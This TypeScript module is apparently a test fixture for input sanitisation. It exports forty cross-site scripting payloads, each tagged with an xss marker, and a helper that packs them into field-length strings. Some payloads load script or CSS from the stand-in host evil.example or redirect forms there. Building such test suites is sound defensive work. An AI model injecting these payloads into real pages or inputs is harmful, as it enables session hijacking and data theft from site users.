/**
 * Forty ways to smuggle code through a text field. Every one calls `xss` or makes an element with that id, so one look
 * finds whatever came through. None has an asterisk: the pages write what stands between two of them bold.
 */
export const payloads: readonly string[] = [
  // Plain elements.
  '<script id=xss>xss()</script>',
  '<ScRiPt id=xss src=//evil.example/a.js></sCrIpT>',
  '<script/id=xss>xss()//',
  '<<script id=xss>xss();//<</script>',
  '<img id=xss src=x onerror=xss()>',
  '<img/id=xss/src=`x`/onerror=xss()>',
  '<body id=xss onload=xss()>',
  '<iframe id=xss srcdoc="<script>parent.xss()</script>"></iframe>',
  '<iframe id=xss src=javascript:parent.xss()>',
  '<object id=xss data=javascript:xss()>',
  '<embed id=xss src=data:text/html,xss>',
  '<base id=xss href=//evil.example/>',
  '<meta id=xss http-equiv=refresh content="0;url=javascript:xss()">',
  '<link id=xss rel=stylesheet href=//evil.example/a.css>',
  '<form id=xss action=//evil.example><button>x',
  '<details id=xss open ontoggle=xss()>',
  '<input id=xss autofocus onfocus=xss()>',
  '<video id=xss><source onerror=xss()>',
  '<a id=xss href="javascript:xss()">x</a>',
  '<a id=xss href="jav&#x09;ascript:xss()">x</a>',
  // Other languages inside HTML.
  '<svg id=xss onload=xss()>',
  '<svg id=xss><script>xss()</script></svg>',
  '<svg id=xss><use href="data:image/svg+xml,x"/></svg>',
  '<math id=xss><mtext><style><img src=x onerror=xss()></style>',
  '<style id=xss>@import "//evil.example/a.css";</style>',
  // Out of an attribute.
  '" id=xss autofocus onfocus=xss() x="',
  "' id=xss onmouseover=xss() x='",
  '"><b id=xss onclick=xss()>',
  "'><b id=xss onclick=xss()>",
  'x id=xss onclick=xss() y=',
  // Out of an element that holds only text, and out of a comment.
  '</textarea><b id=xss>',
  '</title></style></noscript></template><b id=xss>',
  '--><b id=xss>',
  '</select></option><b id=xss>',
  // Out of a script or a style.
  '</script><script id=xss>xss()</script>',
  '"};xss();var a={"b":"',
  '\u0024{xss()}`+xss()+`{{constructor.constructor("xss()")()}}',
  '\u2028xss()\u2029;background:url(javascript:xss())',
  // What one decoding too many would bring to life.
  '&lt;script id=xss&gt;xss()&lt;/script&gt;&#60;b id=xss&#62;%3Cb%20id=xss%3E',
  '+ADw-script id=xss+AD4-xss()+ADw-/script+AD4-\\u003cb id=xss\\u003e',
];

/** The payloads in texts of at most `length` characters, each with a mark in front that tells the field. */
export function packed(length: number, mark: string): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const longer = `${texts.at(-1) ?? ''} ${payload}`;
    if (texts.length > 0 && longer.length <= length) texts[texts.length - 1] = longer;
    else texts.push(`${mark}${payload}`);
  }
  return texts;
}
